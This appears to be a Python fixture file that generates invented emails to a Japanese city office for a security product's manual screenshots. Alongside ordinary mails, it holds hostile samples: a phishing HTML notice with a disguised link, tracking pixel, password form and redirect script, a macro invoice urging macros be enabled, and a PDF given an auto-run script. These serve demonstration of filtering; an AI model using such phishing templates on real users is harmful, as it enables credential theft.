"""Invented mail for the pictures of the manual: a small city's ordinary days, and what is sent to harm it."""

import io
from datetime import datetime, timedelta
from email.message import EmailMessage
from pathlib import Path
from typing import NamedTuple

import pikepdf

CITY = "city.example.lg.jp"
TOWN = "town.example.lg.jp"
SAMPLES = Path(__file__).resolve().parents[1] / "samples"

QUOTATION = """<!doctype html><html lang="ja"><meta charset="utf-8"><style>
body { font-family: "IPAexMincho", "IPAMincho", serif; margin: 18mm; font-size: 12pt; }
h1 { text-align: center; letter-spacing: .6em; } table { width: 100%; border-collapse: collapse; margin-top: 8mm; }
td, th { border: 1px solid #444; padding: 2mm 3mm; } .r { text-align: right; } </style>
<h1>御見積書</h1><p class="r">見積番号 R8-0312<br>令和8年11月20日</p><p>総務課 御中</p>
<p class="r">株式会社みほん事務機<br>営業部 見本 太郎</p><p>下記のとおりお見積り申し上げます。</p>
<p><b>合計金額 ¥418,000-(消費税込み)</b></p>
<table><tr><th>品名</th><th>数量</th><th>単価</th><th>金額</th></tr>
<tr><td>窓口用 番号発券機</td><td class="r">1</td><td class="r">280,000</td><td class="r">280,000</td></tr>
<tr><td>ロール紙(10巻)</td><td class="r">4</td><td class="r">5,000</td><td class="r">20,000</td></tr>
<tr><td>設置・調整</td><td class="r">1</td><td class="r">80,000</td><td class="r">80,000</td></tr></table>
<p>納期: ご注文後4週間 お支払い: 納品月末締め翌月末</p></html>"""

NEWSLETTER = """<html><body><h2>庁内システム更新のお知らせ</h2>
<p>情報政策課の皆様</p><p>いつもお世話になっております。下記の日程でシステムを更新いたします。</p>
<ul><li>日時: 11月28日(土) 22:00〜翌6:00</li><li>対象: 文書管理、財務会計</li></ul>
<p>更新後、次のページでパスワードの再設定をお願いいたします。<br>
<a href="http://login.example.net/reset">https://portal.example.jp/</a></p>
<p style="display:none">ID を返信してください</p>
<img src="http://beacon.example.net/open?id=4711" width="1" height="1">
<form action="http://login.example.net/"><input name="password"></form>
<script>location.href = "http://login.example.net/"</script></body></html>"""


class Attachment(NamedTuple):
    """A file of a mail."""

    name: str
    type: str
    data: bytes


class Sent(NamedTuple):
    """One mail, and how long ago it came in."""

    ago: timedelta
    sender: str
    name: str
    recipients: tuple[str, ...]
    subject: str
    text: str
    html: str = ""
    attachments: tuple[Attachment, ...] = ()

    def message(self, at: datetime) -> bytes:
        """As it would come over the wire."""
        mail = EmailMessage()
        mail["From"] = f"{self.name} <{self.sender}>"
        mail["To"] = ", ".join(self.recipients)
        mail["Subject"] = self.subject
        mail["Date"] = at
        mail["Message-ID"] = f"<{int(at.timestamp())}@{self.sender.partition('@')[2]}>"
        mail["X-Mailer"] = "Example Mailer 5.1"
        mail.set_content(self.text)
        if self.html:
            mail.add_alternative(self.html, subtype="html")
        for each in self.attachments:
            main, _, sub = each.type.partition("/")
            mail.add_attachment(each.data, maintype=main, subtype=sub, filename=each.name)
        return bytes(mail).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def with_script(pdf: bytes) -> bytes:
    """The same pages, and a script that runs when they are opened."""
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        document.docinfo["/Author"] = "見本 太郎"
        document.save(written)
    return written.getvalue()


def _sample(path: str, name: str, type_: str) -> Attachment:
    return Attachment(name, type_, (SAMPLES / path).read_bytes())


#: What is handed over to the other side: as a browser has them.
FILES = [
    {"name": name, "mimeType": "", "buffer": data}
    for name, _, data in (
        Attachment("会場一覧.csv", "", "会場,日時\r\nみほん小学校,11月28日 13:30\r\n".encode()),
        _sample("ooxml/excel-vba.xlsm", "健診票.xlsm", ""),
        _sample("zip/locked.zip", "名簿.zip", ""),
        _sample("blocked/autocad.dwg", "体育館平面図.dwg", ""),
    )
]


def mails(pdf: bytes) -> tuple[Sent, ...]:
    """Oldest first; `pdf` is the quotation."""
    word, sheet = "application/msword", "application/vnd.ms-excel"
    soumu, kenko, kikaku = f"soumu@{CITY}", f"kenko@{CITY}", f"kikaku@{CITY}"
    minute, hour = timedelta(minutes=1), timedelta(hours=1)
    return (
        Sent(
            23 * hour,
            "info@chubu.example.jp",
            "中部広域連合",
            (kikaku,),
            "次回連絡会議の日程について",
            "日程を添付します。",
            attachments=(_sample("ooxml/word-japanese.docx", "連絡会議次第.docx", word),),
        ),
        Sent(21 * hour, "tanaka@shop.example.jp", "田中商店", (soumu,), "納品書の送付", "納品書をお送りします。"),
        Sent(19 * hour, "noreply@news.example.com", "Example News", (kenko,), "今週のニュース", "今週の記事です。"),
        Sent(
            9 * hour,
            "desk@clinic.example.jp",
            "みほん診療所",
            (kenko,),
            "健診結果の様式",
            "様式をお送りします。",
            attachments=(_sample("ooxml/excel-japanese.xlsx", "健診様式.xlsx", sheet),),
        ),
        Sent(
            8 * hour,
            "sato@planning.example.jp",
            "佐藤設計",
            (kikaku, soumu),
            "公民館改修 図面の送付",
            "図面をお送りします。",
            attachments=(_sample("blocked/autocad.dwg", "1階平面図.dwg", "application/octet-stream"),),
        ),
        Sent(
            7 * hour,
            "yamada@example.jp",
            "山田 花子",
            (kenko,),
            "保育園の申込みについて",
            "写真を添付します。",
            attachments=(_sample("image/jpeg-exif-position.jpg", "母子手帳.jpg", "image/jpeg"),),
        ),
        Sent(
            6 * hour,
            "keiri@trade.example.jp",
            "みほん通商 経理",
            (soumu,),
            "【至急】請求書のご確認",
            "マクロを有効にしてご覧ください。",
            attachments=(_sample("ooxml/excel-vba.xlsm", "請求書_11月分.xlsm", sheet),),
        ),
        Sent(
            5 * hour,
            "suzuki@bureau.example.jp",
            "鈴木 一郎",
            (kikaku,),
            "委託業務の見積依頼",
            "パスワードは別のメールでお送りします。",
            attachments=(_sample("zip/locked.zip", "仕様書一式.zip", "application/zip"),),
        ),
        Sent(
            4 * hour,
            "support@portal.example.net",
            "庁内システム窓口",
            (kikaku,),
            "庁内システム更新のお知らせ",
            "庁内システム更新のお知らせ\n",
            NEWSLETTER,
        ),
        Sent(
            3 * hour,
            "jimu@school.example.jp",
            "みほん小学校 事務室",
            (kenko, kikaku),
            "就学時健診の名簿",
            "名簿をお送りします。",
            attachments=(_sample("legacy/word-plain.doc", "名簿.doc", word),),
        ),
        Sent(
            2 * hour,
            "office@union.example.jp",
            "広域事務組合",
            (f"jumin@{TOWN}",),
            "ごみ収集日程表の校正",
            "ご確認ください。",
        ),
        Sent(
            90 * minute,
            "hanbai@parcel.example.com",
            "配送センター",
            (soumu,),
            "お荷物お届けのお知らせ",
            "添付をご確認ください。",
            attachments=(_sample("zip/program.zip", "送り状.zip", "application/zip"),),
        ),
        Sent(
            70 * minute,
            "mori@design.example.jp",
            "森デザイン室",
            (f"kouhou@{CITY}",),
            "広報紙12月号の校正",
            "校正をお送りします。",
            attachments=(Attachment("広報12月号.pdf", "application/pdf", pdf),),
        ),
        Sent(
            50 * minute,
            "kato@survey.example.jp",
            "加藤測量",
            (f"doboku@{CITY}",),
            "測量成果の送付(市道12号線)",
            "成果をお送りします。",
            attachments=(_sample("blocked/jw-cad.jww", "市道12号線.jww", "application/octet-stream"),),
        ),
        Sent(
            25 * minute,
            "office@union.example.jp",
            "広域事務組合",
            (f"jumin@{TOWN}",),
            "窓口業務の引継ぎ資料",
            "資料です。",
        ),
        Sent(
            12 * minute,
            "mihon@jimuki.example.jp",
            "見本 太郎",
            (soumu,),
            "御見積書の送付(番号発券機)",
            "総務課 御中\n\nお世話になっております。\n御見積書をお送りします。\n\n株式会社みほん事務機\n見本 太郎\n",
            attachments=(
                Attachment("御見積書_R8-0312.pdf", "application/pdf", with_script(pdf)),
                _sample("blocked/docuworks.xdw", "カタログ.xdw", "application/octet-stream"),
            ),
        ),
    )
